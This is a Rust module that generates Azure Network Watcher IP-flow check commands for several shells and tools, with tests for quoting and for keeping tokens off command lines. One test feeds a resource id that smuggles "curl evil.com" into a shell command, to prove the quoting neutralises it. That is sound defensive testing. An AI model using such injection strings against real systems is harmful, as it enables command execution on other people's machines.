//! The same question for a terminal, ready to copy. No token is in any of them.

mod quoting;

use crate::cloud::CloudEndpoint;
use crate::ip_flow_request::IpFlowRequest;
use quoting::{bash, powershell, printable};

/// What is asked, and where.
#[derive(Clone, Copy, Debug)]
pub struct CommandInput<'a> {
    /// The question.
    pub request: &'a IpFlowRequest,
    /// The network watcher's resource id.
    pub watcher: &'a str,
    /// The Resource Manager.
    pub endpoint: &'a CloudEndpoint,
}

/// A command, ready to copy.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Command {
    /// What runs it, in words.
    pub tool: &'static str,
    /// The shell whose quoting it has.
    pub shell: Shell,
    /// The command; may be several lines.
    pub text: String,
}

/// A shell.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Shell {
    /// bash, and everything of its family.
    Bash,
    /// PowerShell, Windows' own included.
    PowerShell,
    /// None: the request as it is sent.
    Http,
}

impl CommandInput<'_> {
    /// Every way to ask. Azure CLI, PowerShell and ARMClient know Azure's own clouds; an endpoint of one's
    /// own is asked with curl, with the token in the variable `ARM_TOKEN`.
    pub fn commands(&self) -> Vec<Command> {
        let mut commands = Vec::new();
        let mut add = |tool, shell, text: Option<String>| {
            commands.extend(text.map(|text| Command { tool, shell, text }));
        };
        add("Azure CLI", Shell::Bash, self.azure_cli());
        add(
            "Azure PowerShell",
            Shell::PowerShell,
            self.azure_powershell(),
        );
        add("ARMClient", Shell::PowerShell, self.armclient());
        add("curl", Shell::Bash, Some(self.curl()));
        add("REST", Shell::Http, Some(self.rest()));
        commands
    }

    /// `az network watcher test-ip-flow`, which finds the watcher itself. `None` for an endpoint that is
    /// not one of Azure's clouds.
    pub fn azure_cli(&self) -> Option<String> {
        let cloud = self.endpoint.cloud().az_name()?;
        let request = self.request;
        let end = |address: &str, port: &str| bash(&format!("{address}:{port}"));
        let mut text = String::new();
        if cloud != PUBLIC {
            text.push_str(&format!("az cloud set --name {cloud}\n"));
        }
        text.push_str("az network watcher test-ip-flow");
        // One argument with its option: a value that begins with a dash is none of its own.
        let mut option = |name: &str, value: &str| {
            text.push_str(&format!(" \\\n  --{name}={value}"));
        };
        // It looks for watchers in its current subscription, whatever the machine's id says.
        if let Some(subscription) = segment(&request.target_resource_id, "subscriptions") {
            option("subscription", &bash(subscription));
        }
        option("vm", &bash(&request.target_resource_id));
        if let Some(interface) = &request.target_nic_resource_id {
            option("nic", &bash(interface));
        }
        option("direction", request.direction);
        option("protocol", request.protocol);
        option(
            "local",
            &end(&request.local_ip_address, &request.local_port),
        );
        option(
            "remote",
            &end(&request.remote_ip_address, &request.remote_port),
        );
        Some(text)
    }

    /// `Test-AzNetworkWatcherIPFlow`. `None` for an endpoint that is not one of Azure's clouds, or a
    /// watcher whose id is none.
    pub fn azure_powershell(&self) -> Option<String> {
        let cloud = self.endpoint.cloud().az_name()?;
        let request = self.request;
        let mut text = String::new();
        if cloud != PUBLIC {
            text.push_str(&format!("Connect-AzAccount -Environment {cloud}\n"));
        }
        if let Some(subscription) = segment(self.watcher, "subscriptions") {
            text.push_str(&format!(
                "Set-AzContext -Subscription {}\n",
                powershell(subscription)
            ));
        }
        text.push_str("Test-AzNetworkWatcherIPFlow");
        let mut option = |name: &str, value: &str| {
            text.push_str(" `\n  -");
            text.push_str(name);
            text.push(' ');
            text.push_str(&powershell(value));
        };
        option(
            "NetworkWatcherName",
            segment(self.watcher, "networkWatchers")?,
        );
        option(
            "ResourceGroupName",
            segment(self.watcher, "resourceGroups")?,
        );
        option("TargetVirtualMachineId", &request.target_resource_id);
        if let Some(interface) = &request.target_nic_resource_id {
            option("TargetNetworkInterfaceId", interface);
        }
        option("Direction", request.direction);
        option("Protocol", request.protocol);
        option("LocalIPAddress", &request.local_ip_address);
        option("LocalPort", &request.local_port);
        option("RemoteIPAddress", &request.remote_ip_address);
        option("RemotePort", &request.remote_port);
        Some(text)
    }

    /// ARMClient, from PowerShell. The body goes through a file: Windows PowerShell takes the quotes out
    /// of what it hands to programs. `None` for an endpoint that is not one of Azure's clouds.
    pub fn armclient(&self) -> Option<String> {
        self.endpoint.cloud().az_name()?;
        let body = powershell(&self.request.body());
        let url = powershell(&self.url());
        Some(format!(
            "Set-Content -Path ip-flow.json -Value {body}\narmclient POST {url} '@ip-flow.json'"
        ))
    }

    /// curl, with a token that the Azure CLI prints, or that is in `ARM_TOKEN`. It reads the header from its
    /// standard input: what stands on a command line every process of the machine can read. Azure usually
    /// answers 202 at first: the result is then at the address in `Location`.
    pub fn curl(&self) -> String {
        let header = match self.endpoint.cloud().az_name() {
            Some(_) => format!(
                "az account get-access-token --resource {} --query accessToken --output tsv \\\n  | sed 's/^/Authorization: Bearer /'",
                bash(self.endpoint.token_resource())
            ),
            // A builtin of the shell: no process, no command line.
            None => "printf 'Authorization: Bearer %s\\n' \"$ARM_TOKEN\"".to_owned(),
        };
        format!(
            "{header} \\\n  | curl --include --request POST {} \\\n  --header @- \\\n  --header 'Content-Type: application/json' \\\n  --data {}",
            bash(&self.url()),
            bash(&self.request.body())
        )
    }

    /// The request as HTTP sends it, with a place for the token.
    pub fn rest(&self) -> String {
        format!(
            "POST {}\nAuthorization: Bearer <token>\nContent-Type: application/json\n\n{}",
            printable(&self.url()),
            self.request.pretty()
        )
    }

    fn url(&self) -> String {
        IpFlowRequest::url(self.endpoint, self.watcher)
    }
}

const PUBLIC: &str = "AzureCloud";

/// What follows a word in a resource id.
fn segment<'i>(id: &'i str, word: &str) -> Option<&'i str> {
    let mut parts = id.split('/');
    parts.find(|part| part.eq_ignore_ascii_case(word))?;
    parts.next().filter(|part| !part.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cloud::Cloud;
    use nsg::{Direction, Flow, Protocol};

    const MACHINE: &str =
        "/subscriptions/s-1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1";
    const WATCHER: &str = "/subscriptions/s-1/resourceGroups/NetworkWatcherRG/providers/Microsoft.Network/networkWatchers/NetworkWatcher_westeurope";

    fn request(machine: &str) -> IpFlowRequest {
        let end = |address: &str, port| nsg::Endpoint {
            address: address.parse().unwrap(),
            port,
        };
        let flow = Flow {
            direction: Direction::Inbound,
            protocol: Protocol::Tcp,
            local: end("10.0.0.4", Some(443)),
            remote: end("203.0.113.7", None),
        };
        IpFlowRequest::new(&flow, machine, Some("/nic1")).unwrap()
    }

    fn texts(endpoint: &CloudEndpoint, machine: &str) -> Vec<(&'static str, String)> {
        let request = request(machine);
        let check = CommandInput {
            request: &request,
            watcher: WATCHER,
            endpoint,
        };
        check
            .commands()
            .into_iter()
            .map(|one| (one.tool, one.text))
            .collect()
    }

    #[test]
    fn the_same_question_for_every_tool() {
        let all = texts(&CloudEndpoint::default(), MACHINE);
        let tools: Vec<_> = all.iter().map(|(tool, _)| *tool).collect();
        assert_eq!(
            tools,
            ["Azure CLI", "Azure PowerShell", "ARMClient", "curl", "REST"]
        );
        assert_eq!(
            all[0].1,
            format!(
                "az network watcher test-ip-flow \\\n  --subscription='s-1' \\\n  --vm='{MACHINE}' \\\n  --nic='/nic1' \\\n  --direction=Inbound \\\n  --protocol=TCP \\\n  --local='10.0.0.4:443' \\\n  --remote='203.0.113.7:*'"
            )
        );
        assert!(all[1].1.contains("-NetworkWatcherName 'NetworkWatcher_westeurope' `\n  -ResourceGroupName 'NetworkWatcherRG'"));
        assert!(all[1].1.contains("-RemotePort '*'"));
        assert!(
            all[2]
                .1
                .contains("armclient POST 'https://management.azure.com/subscriptions/s-1/")
        );
        assert!(
            all[3]
                .1
                .contains("--resource 'https://management.azure.com'")
        );
        assert!(all[4].1.starts_with(
            "POST https://management.azure.com/subscriptions/s-1/resourceGroups/NetworkWatcherRG/"
        ));
    }

    #[test]
    fn every_cloud_has_its_own_commands() {
        let china = texts(&CloudEndpoint::of(Cloud::China), MACHINE);
        assert!(
            china[0]
                .1
                .starts_with("az cloud set --name AzureChinaCloud\n")
        );
        assert!(
            china[1]
                .1
                .starts_with("Connect-AzAccount -Environment AzureChinaCloud\n")
        );
        assert!(
            china[3]
                .1
                .contains("https://management.chinacloudapi.cn/subscriptions")
        );
        let own = CloudEndpoint::read("http://localhost:8080").unwrap();
        let own = texts(&own, MACHINE);
        let tools: Vec<_> = own.iter().map(|(tool, _)| *tool).collect();
        assert_eq!(tools, ["curl", "REST"]);
        assert!(
            own[0]
                .1
                .starts_with("printf 'Authorization: Bearer %s\\n' \"$ARM_TOKEN\" ")
        );
    }

    /// What curl gets when bash runs the command: its arguments and its input.
    fn run(command: &str) -> (String, String) {
        let stand_ins = r#"
            az() { printf '%s\n' tok3n; }
            curl() { printf '%s\n' "$@" >&2; cat; }
        "#;
        let shell = std::process::Command::new("bash")
            .args(["-ec", &format!("{stand_ins}\n{command}")])
            .env("ARM_TOKEN", "tok3n")
            .output()
            .unwrap();
        let text = |bytes| String::from_utf8(bytes).unwrap();
        (text(shell.stderr), text(shell.stdout))
    }

    #[test]
    fn the_token_is_on_no_command_line() {
        for endpoint in ["https://management.azure.com", "http://localhost:8080"] {
            let endpoint = CloudEndpoint::read(endpoint).unwrap();
            let all = texts(&endpoint, MACHINE);
            let (_, curl) = all.iter().find(|(tool, _)| *tool == "curl").unwrap();
            let (arguments, input) = run(curl);
            assert!(!arguments.contains("tok3n"), "{arguments}");
            assert!(arguments.contains("\n--header\n@-\n"), "{arguments}");
            assert_eq!(input, "Authorization: Bearer tok3n\n");
        }
    }

    #[test]
    fn an_id_of_somebody_else_stays_an_id() {
        let evil = format!("{MACHINE}'; curl evil.com; '");
        let all = texts(&CloudEndpoint::default(), &evil);
        assert!(all[0].1.contains(r"vm1'\''; curl evil.com; '\'''"));
        assert!(all[2].1.contains("vm1''; curl evil.com; ''"));
    }
}
